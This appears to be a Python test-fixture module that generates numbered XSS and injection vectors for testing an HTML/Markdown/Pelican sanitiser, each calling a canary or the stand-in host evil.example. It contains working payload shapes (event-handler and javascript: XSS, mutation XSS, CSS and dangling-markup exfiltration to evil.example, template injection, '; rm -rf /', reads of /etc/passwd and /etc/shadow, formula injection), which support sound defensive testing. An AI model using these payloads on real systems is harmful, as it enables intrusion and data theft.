"""Attack vectors of our own writing, made by rule: the same list, in the same order, every time.

The classes are those that OWASP, DOMPurify, html5lib and PortSwigger describe, and those that
Markdown, Pelican and Jinja add. Every vector calls the canary `X(<its number>)` where a browser
would run it, or asks `evil.example` for something. All of it is 演示数据.
"""

# A vector that is broken over two lines cannot be read.
# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import count, cycle, product
from typing import Final

EVIL: Final = "evil.example"
"""The host that no page may ask for anything; the name is reserved and leads nowhere."""


_HIDING: Final = (
    "textarea", "title", "style", "xmp", "noscript", "script", "iframe", "noembed", "noframes",
    "select", "template", "frameset", "object", "math", "svg", "listing", "portal", "video",
    "audio", "applet", "marquee", "table", "form", "a", "button", "isindex",
)  # fmt: skip
"""Elements whose content, or whose open rest of the page, is not read as ordinary text."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack. `family` is its class; `number` is what it hands to the canary."""

    number: int
    family: str
    text: str

    @property
    def label(self) -> str:
        return f"演示数据 {self.family}-{self.number:04}"

    @property
    def swallows(self) -> bool:
        """Whether it may hide what comes after it in a careless page."""
        low = self.text.lower()
        if any(low.count(quote) % 2 for quote in "\"'`"):
            return True
        if any(opener in low for opener in ("<plaintext", "<!--", "<![", "<base", "http-equiv")):
            return True
        return low.count("<") > low.count(">") or any(
            low.count(f"<{tag}") > low.count(f"</{tag}") for tag in _HIDING
        )


Writer = Callable[[str], str]
"""Makes the text of a vector around a call of the canary."""

EVENTS: Final = (
    "abort", "afterprint", "animationcancel", "animationend", "animationiteration",
    "animationstart", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch",
    "beforepaste", "beforetoggle", "beforeunload", "blur", "cancel", "canplay", "change", "click",
    "close", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter",
    "dragleave", "dragover", "dragstart", "drop", "error", "focus", "focusin", "focusout",
    "formdata", "fullscreenchange", "gotpointercapture", "hashchange", "input", "invalid",
    "keydown", "keypress", "keyup", "load", "loadeddata", "lostpointercapture", "message",
    "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup",
    "mousewheel", "pageshow", "paste", "play", "pointercancel", "pointerdown", "pointerenter",
    "pointerleave", "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup",
    "popstate", "progress", "reset", "resize", "scroll", "scrollend", "search",
    "securitypolicyviolation", "seeked", "select", "selectionchange", "selectstart", "slotchange",
    "storage", "submit", "suspend", "timeupdate", "toggle", "touchend", "touchmove", "touchstart",
    "transitionend", "transitionrun", "unhandledrejection", "volumechange", "waiting", "wheel",
)  # fmt: skip

HOLDERS: Final = (
    "b", "p", "div", "span", "a", "img src=x", "input", "button", "details", "video", "audio",
    "svg", "custom-tag", "marquee", "summary", "section", "h2", "td", "label", "dialog",
)  # fmt: skip

BY_ITSELF: Final = (
    "<img src=x onerror={0}>", "<svg onload={0}>", "<body onload={0}>", "<body onpageshow={0}>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<video src=x onerror={0}>",
    "<textarea autofocus onfocus={0}>", "<audio src=x onerror={0}>", "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>", "<iframe onload={0}></iframe>", "<style onload={0}>",
    "<object data=x onerror={0}>", "<embed src=x onerror={0}>", "<script src=x onerror={0}>",
    "<link rel=stylesheet href=x onerror={0}>", "<marquee onstart={0}>x</marquee>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><image href=x onerror={0}>",
    "<svg><style onload={0}>", "<image src=x onerror={0}>", "<picture><img src onerror={0}>",
    "<b tabindex=0 autofocus onfocus={0}>", "<svg><a autofocus tabindex=1 onfocus={0}>",
    "<table background=x><img src=x onerror={0}></table>", "<isindex onfocus={0} autofocus>",
    "<math><mi autofocus tabindex=0 onfocus={0}>", "<video poster=x onloadstart={0} src=x>",
)  # fmt: skip


def _handlers() -> Iterator[Writer]:
    """Event handlers: by themselves or simulated, in every way to quote and to part them."""
    shapes = ("<{tag} on{event}={call}>", '<{tag} on{event}="{call}">', "<{tag}/on{event}='{call}'>",
              "<{tag}\non{event}\t=\n{call}>x", "<{tag} ON{event} = {call} ")  # fmt: skip
    holders = cycle(HOLDERS)
    for event in EVENTS:
        for shape in shapes:
            tag = next(holders)
            yield lambda call, s=shape, t=tag, e=event: s.format(tag=t, event=e, call=call)
    quotings = ("{}", '"{}"', "'{}'", "`{}`", "&#x58;{}")
    for form, quoting in product(BY_ITSELF, quotings):
        if quoting.startswith("&"):
            yield lambda call, f=form: f.format(f'"&#x58;{call[1:]}"')
        else:
            yield lambda call, f=form, q=quoting: f.format(q.format(call))


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(character)) for character in text)


DISGUISES: Final[tuple[Writer, ...]] = (
    lambda call: f"javascript:{call}",
    lambda call: f"JaVaScRiPt:{call}",
    lambda call: f" \tjavascript:{call}",
    lambda call: f"\x01javascript:{call}",
    lambda call: f"\x1fjavascript:{call}",
    lambda call: f"java\tscript:{call}",
    lambda call: f"java\nscript:{call}",
    lambda call: f"java&Tab;script&colon;{call}",
    lambda call: f"java&NewLine;script:{call}",
    lambda call: f"java&#09;script:{call}",
    lambda call: f"java&#x0000000A;script:{call}",
    lambda call: f"{_entities('javascript:', '&#{};')}{call}",
    lambda call: f"{_entities('javascript:', '&#x{:x};')}{call}",
    lambda call: f"{_entities('javascript', '&#{:07}')}&colon;{call}",
    lambda call: f"javascript&#58;{call}",
    lambda call: f"javascript&colon;{call}",
    lambda call: f"&Tab;javascript:{call}",
    lambda call: f"\u00a0javascript:{call}",
    lambda call: f"\u2028javascript:{call}",
    lambda call: f"\ufeffjavascript:{call}",
    lambda call: f"java\x00script:{call}",
    lambda call: f"javascript:/*https://a.example/*/{call}",
    lambda call: f"javascript://https://a.example/%0a{call}",
    lambda call: f"javascript:%58{call[1:]}",
    lambda call: f"javascript%3a{call}",
    lambda call: f"data:text/html,<script>{call}</script>",
    lambda call: f"data:text/html;charset=utf-8,%3Cscript%3E{call}%3C/script%3E",
    lambda call: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    lambda call: f"DATA:text/html,<img src=x onerror={call}>",
    lambda call: f"vbscript:{call}",
    lambda call: f"blob:https://{EVIL}/{call}",
    lambda call: f"filesystem:https://{EVIL}/{call}",
    lambda call: f"view-source:javascript:{call}",
    lambda call: f"feed:javascript:{call}",
    lambda call: f"jar:javascript:{call}!/",
    lambda call: f"//{EVIL}/{call}",
    lambda call: f"/\\{EVIL}/{call}",
    lambda call: f"\\\\{EVIL}\\{call}",
    lambda call: f"https:javascript:{call}",
    lambda call: f"tel:javascript:{call}",
)
"""Ways to write an address that runs or leads away."""

CARRIERS: Final = (
    '<a href="{}">演示</a>', "<a href='{}'>演示</a>", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>演示</button></form>', '<button form=f formaction="{}">演示</button>',
    '<svg><a xlink:href="{}"><text y=20>演示</text></a></svg>', '<object data="{}"></object>',
    '<embed src="{}">', '<math><mi href="{}">演示</mi></math>', '<img src="{}">',
    '<svg><use href="{}"/></svg>', '<video poster="{}" src="{}"></video>',
    '<link rel="import stylesheet" href="{}">', '<script src="{}"></script>',
)  # fmt: skip
"""Elements that follow an address."""

MARKDOWN_CARRIERS: Final = (
    "[演示]({})", "[演示](<{}>)", "![演示]({})", "[演示][d{n}]\n\n[d{n}]: {}", "<{}>",
    '[演示]({} "标题")', "[![演示]({})](https://a.example/)", "[演示]: <{}> 'x'\n\n[演示][]",
)  # fmt: skip
"""Markdown that becomes a link or a picture."""


def _addresses() -> Iterator[Writer]:
    for disguise, carrier in product(DISGUISES, CARRIERS):
        yield lambda call, d=disguise, c=carrier: c.replace("{}", d(call))


def _bare_addresses() -> Iterator[Writer]:
    yield from DISGUISES


def _markdown_addresses() -> Iterator[Writer]:
    for disguise, carrier in product(DISGUISES, MARKDOWN_CARRIERS):
        yield lambda call, d=disguise, c=carrier: c.replace("{}", d(call)).replace(
            "{n}", call.strip("X()")
        )


IMAGE: Final = "<img src=x onerror={}>"


def _namespaces() -> Iterator[Writer]:
    """Text that changes its meaning between the parsers of HTML, SVG and MathML (mutation XSS)."""
    points = ("", "desc", "title", "foreignObject", "mtext", "mi", "mo", "ms", "annotation-xml")
    raws = ("style", "noscript", "textarea", "title", "xmp", "noembed", "noframes", "iframe")
    for root, point, raw in product(("svg", "math"), points, raws):
        outer = f"<{root}><{point}>" if point else f"<{root}>"
        yield lambda call, o=outer, r=raw: f'{o}<{r}><p id="</{r}>{IMAGE.format(call)}">'
    for form in (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
        "<math></p><style><!--</style><img src/onerror={}>--></style></math>",
        "<svg><![CDATA[</svg><img src=x onerror={}>]]>",
        "<svg><!--<desc>--><img src=x onerror={}>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={}></annotation-xml>",
        "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror={}>\">",
        "<table><td><svg><desc><td></desc></svg></td></table><img src=x onerror={}>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
        "<template><style></template><img src=x onerror={}></style>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={}>\">",
        "<p><svg><script>{}</script></svg>", "<svg><script href=data:,{} />",
        "<svg><script xlink:href=\"data:,{}\"></script></svg>",
        "<svg><set attributeName=onclick to={}><text>演示</text></svg>",
        "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>演示</text></a>",
        "<svg><animate attributeName=href to=javascript:{} begin=0s /></svg>",
        "<a/b/><math href=javascript:{}>演示</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{}>演示</maction></math>",
    ):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call)


def _styles() -> Iterator[Writer]:
    """Rules of CSS that fetch, spy or cover the page."""
    rules = (
        f"background:url(https://{EVIL}/{{n}})", "background:url(javascript:{})",
        f"@import 'https://{EVIL}/{{n}}.css'", f"@font-face{{{{font-family:e;src:url(//{EVIL}/{{n}})}}}}",
        "position:fixed;inset:0;z-index:9999;background:#fff", "width:expression({})",
        "behavior:url(x.htc?{})", "-moz-binding:url(x#{})", "list-style:url(//evil.example/{n})",
        "x:</style><img src=x onerror={}>", "animation:x 1s", "content:'\\22 onerror={}'",
        f"input[value^=a]{{{{background:url(//{EVIL}/{{n}})}}}}", "cursor:url(//evil.example/{n}),auto",
    )  # fmt: skip
    forms = ("<style>{r}</style>", "<style>*{{{r}}}</style>", '<p style="{r}">演示</p>',
             "<svg><style>{r}</style></svg>", "<div style='{r}' onanimationstart={c}>演示</div>")  # fmt: skip
    for rule, form in product(rules, forms):
        yield lambda call, r=rule, f=form: f.format(
            r=r.replace("{n}", call.strip("X()")).replace("{}", call), c=call
        )


def _documents() -> Iterator[Writer]:
    """Elements that load, redirect, rebase or send: meta, base, form, iframe, object, link."""
    for form in (
        f'<meta http-equiv=refresh content="0;url=https://{EVIL}/@">',
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">{}",
        '<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-',
        f"<base href=https://{EVIL}/@/>", "<base href=javascript:/{}/>", f"<base target='{EVIL}@",
        f"<form action=https://{EVIL}/@><input name=q><button>演示</button></form>",
        f"<form id=f{{}} action=//{EVIL}/@></form><button form=f{{}}>演示</button>",
        f"<input type=image src=https://{EVIL}/@ formaction=javascript:{{}}>",
        f"<iframe src=https://{EVIL}/@></iframe>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror=parent.{}&gt;\"></iframe>",
        "<iframe src='javascript:parent.{}'></iframe>", "<frameset onload={}>",
        "<frameset><frame src=javascript:parent.{}>", f"<object data=https://{EVIL}/@></object>",
        "<object data='data:text/html,<script>parent.{}</script>'></object>",
        f"<object><param name=src value=//{EVIL}/@></object>",
        f"<embed src=https://{EVIL}/@>", f"<applet code=https://{EVIL}/@></applet>",
        f"<link rel=stylesheet href=https://{EVIL}/@.css>", f"<link rel=preload as=image href=//{EVIL}/@>",
        f"<link rel=dns-prefetch href=//{EVIL}>", f"<link rel=manifest href=//{EVIL}/@>",
        f"<script src=https://{EVIL}/@.js></script>", "<script>{}</script>", "<SCRIPT>{}</SCRIPT >",
        "<script\x20type=module>{}</script>", "<script\x0c>{}</script>", "<script/x>{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<<script>{}//<</script>",
        "<script src=data:,{}></script>", "<script type=importmap>{\"imports\":{\"{}\":\"x\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/@\"]}]}</script>",
        f"<img src=https://{EVIL}/@.png>", f"<img srcset='https://{EVIL}/@ 2x'>",
        f"<img src=x onerror=\"fetch('https://{EVIL}/@')\">", f"<picture><source srcset=//{EVIL}/@><img></picture>",
        f"<video poster=//{EVIL}/@></video>", f"<audio src=//{EVIL}/@ autoplay></audio>",
        f"<video><track src=//{EVIL}/@ default kind=subtitles></video>",
        f"<body background=//{EVIL}/@>", f"<table background=//{EVIL}/@><td>演示</table>",
        f"<svg><image href=//{EVIL}/@ /></svg>", f"<svg><use href=//{EVIL}/@#x /></svg>",
        f"<a ping=//{EVIL}/@ href=/>演示</a>", f"<input type=image src=//{EVIL}/@>",
        "<portal src=javascript:{}></portal>", "<dialog open><form method=dialog onsubmit={}><button>演示</button></form></dialog>",
        "<button popovertarget=p{}>演示</button><div popover id=p{} onbeforetoggle={}>演示</div>",
        "<template shadowrootmode=open><img src=x onerror={}></template>", "<slot onslotchange={}>演示</slot>",
        "<keygen autofocus onfocus={}>", "<isindex action=javascript:{} type=submit>",
        "<xml id=x><script>{}</script></xml>", "<?xml-stylesheet href='javascript:{}'?>",
        "<!DOCTYPE x [<!ENTITY e '<script>{}</script>'>]>&e;", "<comment><img src=x onerror={}></comment>",
    ):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call).replace("@", call.strip("X()"))


def _breakouts() -> Iterator[Writer]:
    """Ends of the place in which a careless template could put the text."""
    ends = (
        "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</xmp>", "</iframe>",
        "</template>", "</select>", "-->", "--!>", "]]>", "</svg>", "</math>", "</option></select>",
        "</noembed>", "</noframes>", "</p></div>", "*/", "</td></tr></table>",
    )  # fmt: skip
    for end, payload in product(ends, ("<script>{}</script>", IMAGE, "<svg/onload={}>")):
        yield lambda call, e=end, p=payload: e + p.format(call)
    quotes = ('"', "'", "`", '">', "'>", "&quot;", "&#34;", "&#x27;", '\\"', '""', "\" '", "\u201d")
    rest = (" onfocus={} autofocus tabindex=0 x=", " onmouseover={} x", "><img src=x onerror={}>",
            " style=animation-name:x onanimationstart={} ", " href=javascript:{} ",
            "/onclick={}//", "\nonpointerover={}\n")  # fmt: skip
    for quote, after in product(quotes, rest):
        yield lambda call, q=quote, a=after: f"演示{q}{a.format(call)}"


def _scripts() -> Iterator[Writer]:
    """Text that leaves a JSON or a JavaScript string, or a script element around it."""
    for form in (
        "</script><script>{}</script>", "</ScRiPt ><script>{}</script>", "<!--<script>{}", "<!-- <script",
        '"}}</script><svg onload={}>', '"}];{};//', "';{};//", '";{};//', "\\';{};//", '\\";{};//',
        "${{}}", "`${{}}`", "\u2028{};", "\u2029{};", '"\u2028{}', "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{}\\x3c/script\\x3e", "</script\x0c><img src=x onerror={}>", "\"-{}-\"", "'-{}-'",
        "];{};[", "*/{};/*", "\n{}\n", "<![CDATA[</script><script>{}</script>]]>", '","x":"</script><script>{}</script>',
        "__proto__", '{"__proto__":{"x":"{}"}}', "constructor.constructor('{}')()", "toString", "\\", '\\"', "\\u0022;{};//",
    ):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call)


def _dangling() -> Iterator[Writer]:
    """Markup that is never closed, so that what follows it is sent away."""
    starts = (
        f"<img src='https://{EVIL}/?", f'<img src="https://{EVIL}/?', f"<a href='https://{EVIL}/?",
        f"<form action=https://{EVIL}/><textarea name=q>", f"<form action='https://{EVIL}/?",
        f"<meta http-equiv=refresh content='0;url=https://{EVIL}/?", "<base target='",
        f"<link rel=stylesheet href='//{EVIL}/?", f"<style>@import '//{EVIL}/?",
        "<input type=hidden name=q value='", f"<button formaction=//{EVIL}/><option>",
        f"<iframe src='//{EVIL}/?", f"<table background='//{EVIL}/?", f"<portal src='//{EVIL}/?",
        "<plaintext>", "<noscript>", "<!--", "<![CDATA[", "<?", "<select><option>", "<iframe name='",
        f"<video poster='//{EVIL}/?", "<xmp>", "<listing>", "<a target='", "<title>", "<map name='",
    )  # fmt: skip
    for start in starts:
        yield lambda call, s=start: f"{s}{call.strip('X()')}"
        yield lambda call, s=start: f"{s}{call.strip('X()')}\n\n演示 {IMAGE.format(call)}"


CLOBBERED: Final = (
    "getElementById", "querySelectorAll", "querySelector", "body", "head", "forms", "cookie",
    "currentScript", "defaultView", "documentElement", "createElement", "addEventListener",
    "location", "implementation", "baseURI", "scripts", "activeElement", "write",
)  # fmt: skip
"""Properties of the document that a named element takes the place of."""


def _clobbers() -> Iterator[Writer]:
    forms = (
        "<img name={name} src=x onerror={call}>", "<form name={name} onclick={call}><input id={name}></form>",
        "<iframe name={name} srcdoc='<p id={name}>'></iframe>", "<object id={name} name={name} onerror={call}></object>",
        "<a id={name}></a><a id={name} name=href href=javascript:{call}>演示</a>",
    )  # fmt: skip
    for name, form in product(CLOBBERED, forms):
        yield lambda call, n=name, f=form: f.format(name=n, call=call)


def _unicode() -> Iterator[Writer]:
    """Characters that change direction, vanish, fold into others, or are no text at all."""
    marks = (
        "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200b", "\u200f", "\u061c", "\ufeff", "\u00ad",
        "\u2028", "\u2029", "\x00", "\x08", "\x0b", "\x0c", "\x1b[2J\x1b[1;31m", "\x7f", "\x85", "\ufffe",
        "\uffff", "\U000e0041", "\u3164", "\u0300" * 40, "\ue000",
    )  # fmt: skip
    for mark, form in product(marks, ("演示{m}<img src=x{m} onerror={c}>", "<{m}script>{c}</script>",
                                      "<img {m}src=x {m}onerror={c}>")):  # fmt: skip
        yield lambda call, m=mark, f=form: f.format(m=m, c=call)
    for form in ("＜script＞{}＜/script＞", "＜img src=x onerror={}＞", "‹img src=x onerror={}›", "\u226escript>{}</script>",
                 "<ſcript>{}</ſcript>", "<ımg src=x onerror={}>", "<img src=x ᵒⁿᵉʳʳᵒʳ={}>", "ｊａｖａｓｃｒｉｐｔ：{}",
                 "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-", "&lt;script&gt;{}&lt;/script&gt;",
                 "&amp;lt;img src=x onerror={}&amp;gt;", "&#60;img src=x onerror={}&#62;", "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
                 "\\<img src=x onerror={}\\>", "\\74script\\76 {}", "¼script¾{}¼/script¾", "\x1b$B<script>{}</script>"):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call)


def _markdown() -> Iterator[Writer]:
    """HTML in every construct of Markdown, with the extensions that careless sites add."""
    payloads = (IMAGE, "<script>{}</script>", "<svg/onload={}>", '<a href="javascript:{}">演示</a>',
                "<iframe srcdoc='<img src=x onerror=parent.{}>'></iframe>", "<details open ontoggle={}>演示",
                '<p markdown=1 onclick={}>演示</p>')  # fmt: skip
    frames = (
        "{}", "**{}**", "*_**{}**_*", "- {}", "1. {}\n   - {}", "> {}", "> - > {}", "| 甲 | 乙 |\n|---|---|\n| {} | {} |",
        "`{}`", "``{}` x", "```{}\n演示\n```", "```html\n{}\n```", "~~~ {{.{}}}\n演示\n~~~", "    {}", "### {}", "{}\n===",
        "[{}](https://a.example/)", "![{}](a.png)", "[演示](https://a.example/ '{}')", "[演示][{}]", "[{}]: https://a.example/",
        "[^1]\n\n[^1]: {}", "*[演示]: {}\n\n演示", "!!! note \"{}\"\n    {}", "<div>\n\n{}\n\n</div>", "<div markdown=1>{}</div>",
        "演示  \n{}", "\\{}", "***{}", "[[{}]]", "[来源1{}]", "[来源1]({})", "==={}===", "~~{}~~", "H~{}~O", ":{}:", "[x]{{{}}}",
    )  # fmt: skip
    for frame, payload in product(frames, payloads):
        yield (
            lambda call, f=frame, p=payload: (
                f.replace("{{", "{").replace("}}}", "}}").replace("{}", p.replace("{}", call))
            )
        )
    for form in (
        "演示 {: onclick={} .masthead #main style=position:fixed }", "# 演示 {#main onclick={}}", "[演示](https://a.example/){: onmouseover={} }",
        "![演示](a.png){ onerror={} }", "{onclick={}}", "[演示](https://a.example/\"onmouseover={}\")", "[演示](https://a.example/'onmouseover={}')",
        "[演示](https://a.example/ \"x\" onmouseover={})", "<https://a.example/\"onmouseover={}>", "<https://a.example/'><img/src=x/onerror={}>",
        "<x@a.example\"onclick={}>", "[演示](mailto:x@a.example?body=<img/src=x/onerror={}>)", "[演示](tel:1\"onclick={})",
        "[演示](https://a.example/`onclick={}`)", "[演示](https://a.example/<script>{}</script>)", "[a](<https://a.example/\" onclick={} x=\">)",
        "![](https://a.example/\" onerror={} x=\")", "[a]: https://a.example/\"onclick={}\n\n[a]", "[a][b]\n\n[b]: <javascript:{}> (x)",
        "[a](javascript\\:{})", "[a](java\\\nscript:{})", "[a]( javascript:{} )", "[](javascript:{})", "[a](javascript&#x3a;{} 'x')",
        "[a](source:1\" onclick={})", "href=\"source:1\" onclick={} [来源1]", "<a href=\"source:1\" rel=\"x\">1</a> {}", "[来源1\"onclick={}]",
        "\x02stx\x03 {} \x02amp\x03", "\x02klzzwxh:0000\x03<img src=x onerror={}>", "wzxhzdk:0 <img src=x onerror={}>",
    ):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call)


def _engines() -> Iterator[Writer]:
    """Words with a meaning to Pelican, Jinja, Python or a shell."""
    for form in (
        "{attach}../../etc/passwd?{}", "{filename}/../secret.md#{}", "{static}/../../pelicanconf.py#{}", "|static|../../../etc/passwd{}",
        "|filename|x{}", "|attach|/etc/shadow{}", "{index}{}", "{author}{}", "{category}{}", "{tag}{}", "[演示]({attach}../../etc/passwd#{})",
        "[演示]({static}/etc/passwd#{})", "![演示]({attach}/etc/passwd#{})", "<a href='{attach}/etc/passwd'>{}</a>", "{include}/etc/passwd{}",
        "{{ 7*7 }}{}", "{{ config }}{}", "{{ ''.__class__.__mro__ }}{}", "{{ cycler.__init__.__globals__ }}{}", "{% raw %}{}", "{% endraw %}{}",
        "{% include '/etc/passwd' %}{}", "{% set x = 1 %}{}", "{# {} #}", "{{ '<img src=x onerror={}>'|safe }}", "{% autoescape false %}<img src=x onerror={}>{% endautoescape %}",
        "{% extends 'x' %}{}", "{%- import os -%}{}", "${7*7}{}", "#{7*7}{}", "<%= 7*7 %>{}", "{0.__class__}{}", "%(x)s %s %n {}", "{SITEURL}{}",
        "save_as: index.html {}", "template: x {}", "status: hidden {}", "_content: <script>{}</script>", "url: javascript:{}", "slug: ../../{}",
        "=cmd|'/c calc'!A1 {}", "+1+1 {}", "-1+1 {}", "@SUM(1) {}", "\t=1+1 {}", "\r=1+1 {}", '=HYPERLINK("https://evil.example/{}")', "＝1+1 {}",
        "$(id) {}", "`id` {}", "; rm -rf / {}", "|| true {}", "../../../../etc/passwd {}", "..\\..\\{}", "%2e%2e%2f{}", "CON {}", "file:///etc/passwd#{}",
        "!!python/object/apply:os.system [id] {}", "*a {}", "&a [*a] {}", "<<: {}", "' OR 1=1 -- {}", "name:* OR {}", "(((((((( {}", "a~99999 {}",
        "::warning file=x::{}", "::set-output name=x::{}", "[bold red]{}[/]", "[link=https://evil.example]{}[/link]", "\x1b]8;;https://evil.example\x07{}",
    ):  # fmt: skip
        yield lambda call, f=form: f.replace("{}", call)


FAMILIES: Final[tuple[tuple[str, Callable[[], Iterator[Writer]]], ...]] = (
    ("handler", _handlers), ("address", _addresses), ("bare-address", _bare_addresses), ("markdown-address", _markdown_addresses),
    ("namespace", _namespaces), ("style", _styles), ("document", _documents),
    ("breakout", _breakouts), ("script", _scripts), ("dangling", _dangling),
    ("clobber", _clobbers), ("unicode", _unicode), ("markdown", _markdown), ("engine", _engines),
)  # fmt: skip


@cache
def vectors() -> tuple[Vector, ...]:
    """All vectors, each text once, numbered from 1000."""
    numbers = count(1000)
    found: dict[str, Vector] = {}
    for family, writers in FAMILIES:
        for write in writers():
            number = next(numbers)
            vector = Vector(number, family, write(f"X({number})"))
            found.setdefault(vector.text, vector)
    return tuple(found.values())
